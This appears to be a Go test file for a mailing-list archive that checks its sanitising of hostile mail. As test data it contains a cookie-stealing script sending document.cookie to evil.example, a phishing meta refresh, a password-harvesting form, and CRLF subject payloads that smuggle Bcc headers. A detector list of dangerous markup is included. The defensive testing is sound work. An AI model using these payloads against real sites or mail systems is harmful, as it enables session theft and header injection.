package mailinglist

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/xml"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"regexp"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"

	"codeberg.org/placette/placette/internal/web"
	"codeberg.org/placette/placette/mailinglist/mailmsg"
	"golang.org/x/net/html"
)

// The "Bad input" list, each case sent over real SMTP into a list
// and imported from an mbox, then every archive page of the message read
// over HTTP.

// badEnv is a mailEnv (the SMTP server, delivery to a sink) whose lists'
// pages are served as well.
type badEnv struct {
	*mailEnv
	srv *httptest.Server
}

// newBadEnv starts a badEnv with a public list "entraide" that anyone may
// post to, its subject tagged so that the copies' Subject is rewritten.
func newBadEnv(t *testing.T) *badEnv {
	t.Helper()
	e := newMailEnv(t, nil)
	mux := http.NewServeMux()
	web.NewHandler(e.s.cfg.Shell, e.db).Routes(mux)
	e.s.Routes(mux)
	srv := httptest.NewServer(e.s.cfg.Shell.Wrap(mux))
	t.Cleanup(srv.Close)
	e.mkList(t, List{Name: "entraide", Title: "Entraide", Policy: PolicyAnyone, SubjectTag: "[entraide]"}, "bob@example.org")
	return &badEnv{mailEnv: e, srv: srv}
}

// get fetches path anonymously.
func (e *badEnv) get(t *testing.T, path string) response {
	t.Helper()
	req, err := http.NewRequest("GET", e.srv.URL+path, nil)
	if err != nil {
		t.Fatal(err)
	}
	return doRequest(t, http.DefaultClient, req)
}

// post sends raw over SMTP to the list and imports a copy whose
// Message-ID ends in ".imported" instead of ".smtp": the two ways in. It
// returns the two ids.
func (e *badEnv) post(t *testing.T, name, raw string) (smtpID, importID string) {
	t.Helper()
	smtpID, importID = name+".smtp@x", name+".imported@x"
	in := strings.ReplaceAll(raw, "ID@x", smtpID)
	if err := e.send(t, "alice@example.net", []string{"entraide@lists.example"}, in); err != nil {
		t.Fatalf("%s over SMTP: %v", name, err)
	}
	in = strings.ReplaceAll(raw, "ID@x", importID)
	res, err := e.s.Import(context.Background(), "entraide", strings.NewReader(in), nil)
	if err != nil || res.Added != 1 {
		t.Fatalf("import of %s: %+v, %v", name, res, err)
	}
	return smtpID, importID
}

// pages returns every archive page of message id: its permalink, raw
// form and attachments, its thread and the thread's feed, its month and
// the month's mbox, the list's page and feed.
func (e *badEnv) pages(t *testing.T, list, id string) map[string]response {
	t.Helper()
	return e.pagesBut(t, list, id, false)
}

// pagesBut is pages, without the raw message and the month's mbox when
// noRaw is set.
func (e *badEnv) pagesBut(t *testing.T, list, id string, noRaw bool) map[string]response {
	t.Helper()
	a, raw, err := e.s.ArchivedMessage(list, id)
	if err != nil {
		t.Fatalf("%s: %v", id, err)
	}
	m := messagePath(list, id)
	paths := []string{m, m + "/raw",
		fmt.Sprintf("/lists/%s/t/%d", list, a.Thread), fmt.Sprintf("/lists/%s/t/%d.atom", list, a.Thread),
		"/lists/" + list + "/" + a.Date.Format("2006/01") + "/", "/lists/" + list + "/mbox/" + a.Date.Format("2006-01"),
		"/lists/" + list + "/", "/lists/" + list + ".atom",
	}
	if noRaw {
		paths = slices.DeleteFunc(paths, func(p string) bool { return strings.HasSuffix(p, "/raw") || strings.Contains(p, "/mbox/") })
	}
	if msg, err := mailmsg.Parse(raw); err == nil {
		for i := range msg.Attachments {
			paths = append(paths, fmt.Sprintf("%s/a/%d", m, i+1))
		}
	}
	out := map[string]response{}
	for _, p := range paths {
		out[p] = e.get(t, p)
	}
	return out
}

// checkPages checks that every page answers 200, that HTML pages are well
// formed and hold no markup from a message, and that feeds are well-formed
// XML.
func checkPages(t *testing.T, pages map[string]response) {
	t.Helper()
	for p, r := range pages {
		if r.status != http.StatusOK {
			t.Errorf("%s: status %d:\n%.2000s", p, r.status, r.body)
			continue
		}
		ct := r.header.Get("Content-Type")
		switch {
		case strings.HasPrefix(ct, "text/html"):
			if err := wellFormed(r.body); err != nil {
				t.Errorf("%s: %v", p, err)
			}
			if scriptTag.MatchString(r.body) {
				t.Errorf("%s: a <script> in the page", p)
			}
			if err := markupSafe(r.body); err != nil {
				t.Errorf("%s: %v", p, err)
			}
		case strings.HasPrefix(ct, "application/atom+xml"):
			d := xml.NewDecoder(strings.NewReader(r.body))
			for {
				_, err := d.Token()
				if err == io.EOF {
					break
				}
				if err != nil {
					t.Errorf("%s: not well-formed XML: %v", p, err)
					break
				}
			}
		case strings.HasPrefix(ct, "text/plain"):
			if !strings.Contains(r.header.Get("Content-Security-Policy"), "sandbox") {
				t.Errorf("%s: raw text without a sandbox", p)
			}
		}
	}
}

// hostileMarker is in every URL and style of the hostile message.
const hostileMarker = "evil.example"

// markupSafe reports markup that can only have come from a hostile
// message: elements that run, restyle or redirect, event handlers,
// javascript: URLs and anything pointing at hostileMarker.
func markupSafe(page string) error {
	z := html.NewTokenizer(strings.NewReader(page))
	for {
		tt := z.Next()
		if tt == html.ErrorToken {
			return nil
		}
		if tt != html.StartTagToken && tt != html.SelfClosingTagToken {
			continue
		}
		tok := z.Token()
		switch tok.Data {
		case "script", "style", "base", "iframe", "object", "embed", "frame", "frameset", "svg", "math", "applet", "img", "video", "audio", "source", "textarea":
			return fmt.Errorf("a <%s> element in the page", tok.Data)
		}
		for _, a := range tok.Attr {
			v := strings.ToLower(strings.TrimSpace(a.Val))
			switch {
			case strings.HasPrefix(a.Key, "on"):
				return fmt.Errorf("an event handler %s=%q on <%s>", a.Key, a.Val, tok.Data)
			case tok.Data == "a" && a.Key == "href" && strings.HasPrefix(v, "https://"+hostileMarker):
				// A link in the text, made clickable: the reader follows
				// it or not.
			case strings.Contains(v, hostileMarker), strings.HasPrefix(v, "javascript:"), strings.HasPrefix(v, "data:"), strings.HasPrefix(v, "vbscript:"):
				return fmt.Errorf("<%s %s=%q> from the message", tok.Data, a.Key, a.Val)
			case tok.Data == "meta" && a.Key == "http-equiv":
				return fmt.Errorf("<meta http-equiv=%q> in the page", a.Val)
			case tok.Data == "form" && a.Key == "action" && !strings.HasPrefix(v, "/"):
				return fmt.Errorf("a form posting to %q", a.Val)
			case tok.Data == "input" && a.Key == "type" && v == "password":
				return fmt.Errorf("a password field from the message")
			}
		}
	}
}

// hostileHTML is an HTML-only message that tries everything a web mail
// reader has to refuse.
const hostileHTML = "From: Mallory <mallory@example.net>\r\nTo: entraide@lists.example\r\nSubject: Offre\r\n" +
	"Date: Mon, 2 Mar 2026 09:00:00 +0000\r\nMessage-ID: <ID@x>\r\nMIME-Version: 1.0\r\n" +
	"Content-Type: text/html; charset=utf-8\r\n\r\n" +
	`<!DOCTYPE html><html><head><base href="https://evil.example/">` + "\r\n" +
	`<meta http-equiv="refresh" content="0;url=https://evil.example/phish">` + "\r\n" +
	`<style>body{display:none} .msg{position:fixed;top:0;left:0;width:100%;height:100%;background:url(https://evil.example/bg.png)}</style>` + "\r\n" +
	`<script>document.location="https://evil.example/"+document.cookie</script></head>` + "\r\n" +
	`<body onload="alert(1)"><p>Texte visible du message.</p>` + "\r\n" +
	`<div style="position:fixed;top:0;left:0;z-index:9999;background:url(https://evil.example/x)">Cliquez ici</div>` + "\r\n" +
	`<img src="https://evil.example/pixel.png" onerror="alert(2)" alt="pixel espion">` + "\r\n" +
	`<a href="javascript:alert(3)">lien piégé</a> <a href="https://evil.example/login">vrai lien</a>` + "\r\n" +
	`<form action="https://evil.example/steal" method="post"><input name="password" type="password"><button>Envoyer</button></form>` + "\r\n" +
	`<iframe src="https://evil.example/frame"></iframe><svg onload="alert(4)"><script>alert(5)</script></svg>` + "\r\n" +
	`<object data="https://evil.example/x.swf"></object><textarea></div></article></main></textarea>` + "\r\n" +
	`</body></html></div></article></main></body></html><!--` + "\r\n"

// TestHostileHTMLMail sends an HTML-only message full of scripts, event
// handlers, styles, remote images, javascript: links, <base>, <meta
// refresh> and forms, over SMTP and by import: every page of the archive
// shows its text and none of its markup.
func TestHostileHTMLMail(t *testing.T) {
	e := newBadEnv(t)
	smtpID, importID := e.post(t, "hostile", hostileHTML)
	for _, id := range []string{smtpID, importID} {
		t.Run(id, func(t *testing.T) {
			pages := e.pages(t, "entraide", id)
			checkPages(t, pages)
			msg := pages[messagePath("entraide", id)].body
			for _, want := range []string{"Texte visible du message.", "Cliquez ici", "lien piégé"} {
				if !strings.Contains(msg, want) {
					t.Errorf("the message's text %q is not shown:\n%s", want, msg)
				}
			}
			if strings.Contains(msg, "Texte visible du message.</p>") {
				t.Error("the message's own <p> is in the page")
			}
		})
	}
}

// injected matches a header line that a subject would have injected.
var injected = regexp.MustCompile(`(?im)^(bcc|x-injected|x-evil):`)

// TestSubjectHeaderInjection sends subjects that try to add header lines
// (CR and LF in RFC 2047 words, a raw CR), very long subjects and control
// characters: the stored subject is one line without control characters,
// and no page, feed, mbox or member's copy holds an injected header line.
func TestSubjectHeaderInjection(t *testing.T) {
	long := strings.Repeat("Très long sujet ", 700)
	var folded strings.Builder
	for i, w := range strings.Fields(long) {
		if i > 0 && i%8 == 0 {
			folded.WriteString("\r\n")
		}
		folded.WriteString(" " + w)
	}
	b64 := base64.StdEncoding.EncodeToString([]byte("Salut\r\nBcc: victime@example.org\r\nX-Injected: 1"))
	cases := []struct {
		name, subject string
		want          string // what the stored subject starts with
		injects       bool   // the message itself has no Bcc line
		importOnly    bool   // SMTP refuses it (a line over 1000 characters): 554
	}{
		{"q-crlf", "=?utf-8?q?Bonjour=0D=0ABcc:_victime@example.org=0D=0AX-Injected:_1?=", "Bonjour", true, false},
		{"b-crlf", "=?utf-8?b?" + b64 + "?=", "Salut", true, false},
		{"q-lf", "=?iso-8859-1?q?Caf=E9=0AX-Evil:_oui?=", "Café", true, false},
		{"raw-crlf", "a\r\nBcc: x@example.org", "a", false, false},
		{"long", long, "Très long sujet", true, true},
		{"long-folded", strings.TrimPrefix(folded.String(), " "), "Très long sujet", true, false},
		{"control", "Ctl\x01\x1b[31m rouge\x7f =?utf-8?q?=00nul=07bell=1B[0m?=", "Ctl", true, false},
	}
	e := newBadEnv(t)
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			raw := "From: Alice <alice@example.net>\r\nTo: entraide@lists.example\r\nSubject: " + c.subject + "\r\n" +
				"Date: Mon, 2 Mar 2026 09:00:00 +0000\r\nMessage-ID: <ID@x>\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nCorps.\r\n"
			ids := []string{c.name + ".imported@x"}
			if c.importOnly {
				// The server refuses the over-long line with 554; it may
				// close the connection while the client still writes, so
				// the client can see a broken pipe instead of the reply.
				// Either way nothing is stored.
				err := e.send(t, "alice@example.net", []string{"entraide@lists.example"}, raw)
				if code := smtpCode(err); err == nil || code != 0 && code != 554 {
					t.Errorf("over SMTP: %v, want 554", err)
				}
				if _, _, err := e.s.ArchivedMessage("entraide", "ID@x"); err == nil {
					t.Error("the refused message was stored")
				}
				res, err := e.s.Import(context.Background(), "entraide", strings.NewReader(strings.ReplaceAll(raw, "ID@x", ids[0])), nil)
				if err != nil || res.Added != 1 {
					t.Fatalf("import: %+v, %v", res, err)
				}
			} else {
				before := len(e.sink.messages())
				smtpID, _ := e.post(t, c.name, raw)
				ids = append(ids, smtpID)
				for _, k := range e.sink.wait(t, before+1)[before:] {
					h := headerOf(k.Data)
					if c.injects && injected.Match(h) {
						t.Errorf("a member's copy has an injected header line:\n%s", h)
					}
					for line := range bytes.Lines(h) {
						if len(line) > 1000 {
							t.Errorf("a member's copy has a %d-byte header line", len(line))
						}
					}
				}
			}
			for _, id := range ids {
				a, _, err := e.s.ArchivedMessage("entraide", id)
				if err != nil {
					t.Fatal(err)
				}
				if strings.ContainsFunc(a.Subject, func(r rune) bool { return r < 0x20 || r == 0x7f }) {
					t.Errorf("%s: stored subject with control characters: %q", id, a.Subject)
				}
				if !strings.HasPrefix(a.Subject, c.want) {
					t.Errorf("%s: stored subject %q, want it to start with %q", id, a.Subject, c.want)
				}
				th, _, err := e.s.Thread("entraide", a.Thread)
				if err != nil || strings.ContainsAny(th.Subject, "\r\n\x00\x1b") {
					t.Errorf("%s: thread subject %q, %v", id, th.Subject, err)
				}
				pages := e.pages(t, "entraide", id)
				checkPages(t, pages)
				for p, r := range pages {
					if strings.HasSuffix(p, "/raw") || strings.Contains(p, "/mbox/") {
						// The message as it came, control characters
						// included; only its header lines count.
						h := headersOf(r.body, id)
						if len(h) == 0 {
							t.Errorf("%s: the message is not there", p)
						}
						if c.injects && injected.Match(h) {
							t.Errorf("%s: an injected header line:\n%s", p, injected.Find(h))
						}
						continue
					}
					if c.injects && injected.MatchString(r.body) {
						t.Errorf("%s: an injected header line:\n%s", p, injected.FindString(r.body))
					}
					if strings.ContainsAny(r.body, "\x00\x01\x07\x1b") {
						t.Errorf("%s: control characters from the subject", p)
					}
				}
				feed := pages["/lists/entraide.atom"].body
				for _, title := range regexp.MustCompile(`(?s)<title[^>]*>(.*?)</title>`).FindAllStringSubmatch(feed, -1) {
					if strings.ContainsAny(title[1], "\r\n") {
						t.Errorf("a feed title on several lines: %q", title[1])
					}
				}
			}
		})
	}
}

// headerOf returns the header of a message, up to its blank line.
func headerOf(raw []byte) []byte {
	if i := bytes.Index(raw, []byte("\r\n\r\n")); i >= 0 {
		return raw[:i+2]
	}
	if i := bytes.Index(raw, []byte("\n\n")); i >= 0 {
		return raw[:i+1]
	}
	return raw
}

// headersOf returns the header of the message with Message-ID id in an
// mbox or a raw message.
func headersOf(box, id string) []byte {
	for i, m := range regexp.MustCompile(`(?m)^From .*\r?\n`).Split(box, -1) {
		h := headerOf([]byte(m))
		if (i > 0 || !strings.HasPrefix(box, "From ")) && bytes.Contains(h, []byte("Message-ID: <"+id+">")) {
			return h
		}
	}
	return nil
}

// TestAbsurdDates sends and imports messages dated year 1, 9999, 1970,
// 50 years ahead, with odd offsets or unreadable: each lands in a month
// whose page shows it, and the month index lists a handful of months, not
// thousands.
func TestAbsurdDates(t *testing.T) {
	now := time.Now().UTC()
	future := now.AddDate(50, 0, 0).Format(time.RFC1123Z)
	dates := []struct{ name, date string }{
		{"year-1", "Mon, 01 Jan 0001 00:00:00 +0000"},
		{"year-1-west", "Mon, 01 Jan 0001 00:00:00 -0500"},
		{"year-9999", "Fri, 31 Dec 9999 23:59:59 +0000"},
		{"year-9999-east", "Fri, 31 Dec 9999 23:59:59 +1400"},
		{"epoch", "Thu, 01 Jan 1970 00:00:00 +0000"},
		{"before-epoch-by-offset", "Thu, 01 Jan 1970 00:00:00 +1400"},
		{"negative-offset", "Sun, 01 Mar 2026 23:30:00 -1200"},
		{"offset-9999", "Sun, 01 Mar 2026 23:30:00 -9959"},
		{"unparsable", "le 3 mars vers midi"},
		{"empty", ""},
		{"future-50-years", future},
		{"year-0", "Sat, 01 Jan 0000 00:00:00 +0000"},
	}
	e := newBadEnv(t)
	for _, d := range dates {
		t.Run(d.name, func(t *testing.T) {
			raw := "From: Alice <alice@example.net>\r\nTo: entraide@lists.example\r\nSubject: Date " + d.name + "\r\n" +
				"Date: " + d.date + "\r\nMessage-ID: <ID@x>\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nCorps.\r\n"
			smtpID, importID := e.post(t, d.name, raw)
			for _, id := range []string{smtpID, importID} {
				a, _, err := e.s.ArchivedMessage("entraide", id)
				if err != nil {
					t.Fatal(err)
				}
				if a.Date.Year() < 1970 || a.Date.After(time.Now().Add(25*time.Hour)) {
					t.Errorf("%s: archived on %v", id, a.Date)
				}
				pages := e.pages(t, "entraide", id)
				checkPages(t, pages)
				month := pages["/lists/entraide/"+a.Date.Format("2006/01")+"/"]
				if !strings.Contains(month.body, messagePath("entraide", id)) {
					t.Errorf("%s: not on its month's page (%s)", id, a.Date.Format("2006-01"))
				}
			}
		})
	}
	ms, err := e.s.Months("entraide")
	if err != nil {
		t.Fatal(err)
	}
	// 1970, March 2026 and the months of now (a day either side).
	if len(ms) > 5 {
		t.Errorf("%d months in the index: %+v", len(ms), ms)
	}
	for _, m := range ms {
		if m.Year < 1970 || m.Year > now.Year()+1 {
			t.Errorf("month %d-%02d in the index", m.Year, m.Month)
		}
	}
	list := e.get(t, "/lists/entraide/")
	if n := strings.Count(list.body, `href="/lists/entraide/`+"1"); n > 2 {
		t.Errorf("%d links to months of the 1900s", n)
	}
}

// TestReferenceCycles archives messages whose References make loops (A
// names B and B names A, a message names itself, A → B → C → A), in every
// order: each is archived once, its parents end, and the thread page
// shows them all.
func TestReferenceCycles(t *testing.T) {
	a := testMsg{ID: "a@x", From: "A <a@x.org>", Subject: "Boucle", Date: day, InReplyTo: "c@x", References: "<b@x> <c@x>"}
	b := testMsg{ID: "b@x", From: "B <b@x.org>", Subject: "Re: Boucle", Date: day.Add(time.Hour), InReplyTo: "a@x", References: "<c@x> <a@x>"}
	c := testMsg{ID: "c@x", From: "C <c@x.org>", Subject: "Re: Boucle", Date: day.Add(2 * time.Hour), InReplyTo: "b@x", References: "<a@x> <b@x>"}
	self := testMsg{ID: "s@x", From: "S <s@x.org>", Subject: "Moi", Date: day, InReplyTo: "s@x", References: "<s@x> <s@x>"}
	orders := [][]testMsg{{a, b, c, self}, {c, b, a, self}, {b, self, a, c}, {self, c, a, b}}
	for i, msgs := range orders {
		for _, whole := range []bool{false, true} {
			t.Run(fmt.Sprintf("order-%d-mbox-%v", i, whole), func(t *testing.T) {
				s := newTestSite(t)
				if err := s.svc.CreateList(List{Name: "l", Policy: PolicyMembers}); err != nil {
					t.Fatal(err)
				}
				if whole {
					if _, err := s.svc.Import(context.Background(), "l", strings.NewReader(mbox(msgs...)), nil); err != nil {
						t.Fatal(err)
					}
				} else {
					for _, m := range msgs {
						if _, err := s.svc.Import(context.Background(), "l", strings.NewReader(m.raw()), nil); err != nil {
							t.Fatal(err)
						}
					}
				}
				bySeq := map[uint64]*Archived{}
				for _, m := range msgs {
					got, _, err := s.svc.ArchivedMessage("l", m.ID)
					if err != nil {
						t.Fatal(err)
					}
					bySeq[got.Seq] = got
				}
				for _, m := range bySeq {
					seen := map[uint64]bool{}
					for p := m; p != nil && p.Parent != 0; p = bySeq[p.Parent] {
						if seen[p.Seq] {
							t.Fatalf("%s: a loop of parents", m.MessageID)
						}
						seen[p.Seq] = true
					}
					if m.Parent == m.Seq {
						t.Errorf("%s is its own parent", m.MessageID)
					}
				}
				ths, _, err := s.svc.ThreadsPage("l", 0, 10)
				if err != nil {
					t.Fatal(err)
				}
				total := 0
				for _, th := range ths {
					total += th.Count
					r := s.get(t, s.client(t, ""), fmt.Sprintf("/lists/l/t/%d", th.Root), "")
					if r.status != http.StatusOK || strings.Count(r.body, `<article class="msg`) != th.Count {
						t.Errorf("thread %d: status %d, %d messages shown, %d counted", th.Root, r.status, strings.Count(r.body, `<article class="msg`), th.Count)
					}
				}
				if total != len(msgs) {
					t.Errorf("threads count %d messages, want %d", total, len(msgs))
				}
			})
		}
	}
}

// bigMessage returns a message with an attachment of n bytes (a pattern,
// base64 encoded) and the attachment's bytes.
func bigMessage(id string, n int) ([]byte, []byte) {
	att := make([]byte, n)
	for i := range att {
		att[i] = byte(i*7 + i>>9)
	}
	var b bytes.Buffer
	b.WriteString("From: Alice <alice@example.net>\r\nTo: entraide@lists.example\r\nSubject: Gros fichier\r\n" +
		"Date: Mon, 2 Mar 2026 09:00:00 +0000\r\nMessage-ID: <" + id + ">\r\nMIME-Version: 1.0\r\n" +
		"Content-Type: multipart/mixed; boundary=\"sep\"\r\n\r\n--sep\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nLe film de la fête.\r\n" +
		"--sep\r\nContent-Type: video/mp4\r\nContent-Disposition: attachment; filename=\"fete.mp4\"\r\nContent-Transfer-Encoding: base64\r\n\r\n")
	enc := base64.StdEncoding.EncodeToString(att)
	for len(enc) > 76 {
		b.WriteString(enc[:76])
		b.WriteString("\r\n")
		enc = enc[76:]
	}
	b.WriteString(enc + "\r\n--sep--\r\n")
	return b.Bytes(), att
}

// allocated returns how many bytes f allocates.
func allocated(f func()) uint64 {
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	f()
	runtime.ReadMemStats(&after)
	return after.TotalAlloc - before.TotalAlloc
}

// TestBigAttachment sends a 50 MB message over SMTP (552: over the
// default limit of 25 MiB), imports it from an mbox (skipped with its
// reason, in bounded memory), and imports a 20 MB one: its attachment
// downloads byte for byte and no page embeds it.
func TestBigAttachment(t *testing.T) {
	if testing.Short() {
		t.Skip("50 MB of mail")
	}
	e := newBadEnv(t)
	huge, _ := bigMessage("huge@x", 37<<20)
	if len(huge) < 50<<20 {
		t.Fatalf("the message is %d bytes", len(huge))
	}
	var sendErr error
	n := allocated(func() { sendErr = e.send(t, "alice@example.net", []string{"entraide@lists.example"}, string(huge)) })
	t.Logf("sending a %d-byte message over SMTP allocated %d MB", len(huge), n>>20)
	if smtpCode(sendErr) != 552 {
		t.Errorf("a 50 MB message over SMTP: %v, want 552", sendErr)
	}
	box := append([]byte("From alice@example.net Mon Mar  2 09:00:00 2026\n"), bytes.ReplaceAll(huge, []byte("\r\n"), []byte("\n"))...)
	small, _ := bigMessage("small@x", 1000)
	box = append(append(box, "\nFrom alice@example.net Mon Mar  2 09:00:00 2026\n"...), bytes.ReplaceAll(small, []byte("\r\n"), []byte("\n"))...)
	var res ImportResult
	var err error
	n = allocated(func() {
		res, err = e.s.Import(context.Background(), "entraide", bytes.NewReader(box), nil)
	})
	t.Logf("importing a %d-byte mbox allocated %d MB", len(box), n>>20)
	if err != nil || res.Added != 1 || len(res.Broken) != 1 || !strings.Contains(res.Broken[0], "larger than") {
		t.Errorf("import of a 50 MB message: %+v, %v; want it skipped for its size and the next one imported", res, err)
	}
	if n > 400<<20 {
		t.Errorf("importing a 50 MB message allocated %d MB", n>>20)
	}
	if _, _, err := e.s.ArchivedMessage("entraide", "huge@x"); err == nil {
		t.Error("the 50 MB message is archived")
	}

	big, att := bigMessage("big@x", 15<<20)
	n = allocated(func() {
		res, err = e.s.Import(context.Background(), "entraide", bytes.NewReader(big), nil)
	})
	t.Logf("importing a %d-byte message allocated %d MB", len(big), n>>20)
	if err != nil || res.Added != 1 {
		t.Fatalf("import of a %d-byte message: %+v, %v", len(big), res, err)
	}
	if n > 400<<20 {
		t.Errorf("importing a 20 MB message allocated %d MB", n>>20)
	}
	// Its raw form and its month's mbox are the message whole, by design
	// (and slow to obfuscate with the race detector): not read here.
	pages := e.pagesBut(t, "entraide", "big@x", true)
	checkPages(t, pages)
	for p, r := range pages {
		switch {
		case strings.HasSuffix(p, "/a/1"):
			if r.body != string(att) || r.header.Get("Content-Length") != fmt.Sprint(len(att)) {
				t.Errorf("%s: %d bytes (Content-Length %s), want the %d bytes attached", p, len(r.body), r.header.Get("Content-Length"), len(att))
			}
			if !strings.Contains(r.header.Get("Content-Disposition"), `filename="fete.mp4"`) {
				t.Errorf("%s: %s", p, r.header.Get("Content-Disposition"))
			}
		default:
			if len(r.body) > 200<<10 {
				t.Errorf("%s: %d bytes: the attachment is embedded", p, len(r.body))
			}
		}
	}
	if msg := pages[messagePath("entraide", "big@x")].body; !strings.Contains(msg, "fete.mp4") || !strings.Contains(msg, "/lists/entraide/m/big@x/a/1") {
		t.Errorf("the message page does not link its attachment:\n%s", msg)
	}
}
